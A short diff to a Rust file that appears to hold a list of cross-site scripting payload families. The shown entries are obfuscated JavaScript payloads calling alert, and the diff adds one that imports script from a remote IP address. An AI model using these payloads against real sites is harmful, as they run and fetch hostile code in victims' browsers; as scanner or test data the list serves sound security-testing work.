@@ -57,6 +57,7 @@ pub const FAMILIES: &[Family] = &[
             "self[atob('YWxlcnQ=')](document.domain)",
             "top[/al/.source+/ert/.source](1)",
             "[document.domain].find(alert)",
+            "import('//203.0.113.9/x.js')",
         ],
     },
     Family {
